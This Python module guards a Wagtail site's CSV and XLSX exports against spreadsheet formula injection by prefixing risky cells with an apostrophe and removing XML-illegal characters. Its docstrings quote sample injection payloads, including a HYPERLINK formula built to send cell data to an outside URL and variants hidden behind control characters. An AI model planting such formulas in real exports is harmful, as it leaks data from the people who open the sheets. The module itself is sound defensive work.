"""CSV and spreadsheet cells that a spreadsheet program will not run.

A cell whose text starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage
return (or their full-width forms) is read as a formula by Excel, LibreOffice
and Google Sheets: a learner named ``=HYPERLINK("http://…"&A1,"Bob")`` would
become a live link that sends the CME office's data elsewhere. Every export
writes its cells through :func:`neutralise`, which prefixes such text with an
apostrophe (OWASP, "CSV Injection"); numbers such as ``-1.5`` stay numbers.
What a spreadsheet skips or does not show in front of the trigger does not
hide it: spaces, control characters (``"\x01=HYPERLINK(...)"``, ``"\x7f+1"``)
and invisible format characters (a zero-width space, a byte-order mark) are
looked through, and the whole text, those characters included, gets the
apostrophe.

An XLSX cell also loses the characters XML cannot hold (:func:`cell_text`):
one of them (a BEL pasted into a page title, say) makes openpyxl refuse the
whole workbook, and a hand-written sheet unreadable.

Wagtail's own report exports (CSV and XLSX) are covered by :func:`install`.
"""

from __future__ import annotations

import csv
import re
import unicodedata
from typing import Any

TRIGGERS = frozenset("=+-@\t\r\n＝＋－＠")
_NUMBER = re.compile(r"[+-]?(\d+([.,]\d*)?|[.,]\d+)([eE][+-]?\d+)?")
# Every character outside XML 1.0's Char production (#x9, #xA, #xD,
# #x20-#xD7FF, #xE000-#xFFFD, #x10000-#x10FFFF): the C0 controls (which
# openpyxl's ILLEGAL_CHARACTERS_RE refuses), lone surrogates and U+FFFE/U+FFFF.
# One of them in a sheet makes the whole workbook unreadable.
ILLEGAL = re.compile(r"[^\t\n\r\x20-\ud7ff\ue000-\ufffd\U00010000-\U0010ffff]")


# What may stand, unseen, in front of a trigger: spaces and separators (Z*),
# control characters (Cc: C0, DEL, C1) and format characters (Cf: zero-width
# space and joiners, the byte-order mark, bidirectional marks).
_UNSEEN = frozenset({"Cc", "Cf", "Zs", "Zl", "Zp"})


def _starts_like_formula(text: str) -> bool:
    """Is a trigger the first character, or among or right after the unseen
    characters it starts with?"""
    for char in text:
        if char in TRIGGERS:
            return True
        if unicodedata.category(char) not in _UNSEEN:
            return False
    return False


def neutralise(value: Any) -> Any:
    """``value``, or for text a spreadsheet would evaluate, that text with a
    leading apostrophe. The one rule for every CSV and XLSX export (XLSX
    through :func:`cell_text`). A plain number (``-1.5``, ``+447700900123``,
    with nothing but spaces around it) stays as it is."""
    if not isinstance(value, str) or not _starts_like_formula(value):
        return value
    if _NUMBER.fullmatch(value.strip(" \u00a0")):
        return value
    return "'" + value


def strip_illegal(text: str) -> str:
    """``text`` without the characters an XML document may not hold."""
    return ILLEGAL.sub("", text)


def cell_text(value: Any) -> Any:
    """An XLSX text cell's value: the characters XML refuses removed first,
    then neutralised (removing them afterwards could uncover a formula, as in
    ``"\\x01=HYPERLINK(...)"``). Anything else is returned as it is."""
    if not isinstance(value, str):
        return value
    return neutralise(strip_illegal(value))


class _NeutralisingWriter:
    def __init__(self, writer):
        self._writer = writer

    def writerow(self, row):
        return self._writer.writerow([neutralise(cell) for cell in row])

    def writerows(self, rows):
        for row in rows:
            self.writerow(row)


class _NeutralisingDictWriter:
    def __init__(self, writer):
        self._writer = writer

    def writeheader(self):
        return self._writer.writeheader()

    def writerow(self, row):
        return self._writer.writerow({key: neutralise(cell) for key, cell in row.items()})


def writer(buffer, **kwargs):
    """``csv.writer`` whose cells are neutralised."""
    return _NeutralisingWriter(csv.writer(buffer, **kwargs))


def dict_writer(buffer, fieldnames, **kwargs):
    """``csv.DictWriter`` whose cells are neutralised."""
    return _NeutralisingDictWriter(csv.DictWriter(buffer, fieldnames=fieldnames, **kwargs))


def install():
    """Neutralise the cells of Wagtail's own CSV exports (reports, listings),
    and clean its XLSX cells with :func:`cell_text`: its XLSX exports store
    formulas as text, but a title holding a control character would stop
    openpyxl writing the file at all (a server error instead of the export)."""
    from wagtail.admin.views.mixins import SpreadsheetExportMixin

    original = SpreadsheetExportMixin.preprocess_field_value
    if getattr(original, "curbside_neutralised", False):
        return

    def preprocess_field_value(self, field, value, export_format):
        value = original(self, field, value, export_format)
        return cell_text(value) if export_format == self.FORMAT_XLSX else neutralise(value)

    preprocess_field_value.curbside_neutralised = True
    SpreadsheetExportMixin.preprocess_field_value = preprocess_field_value
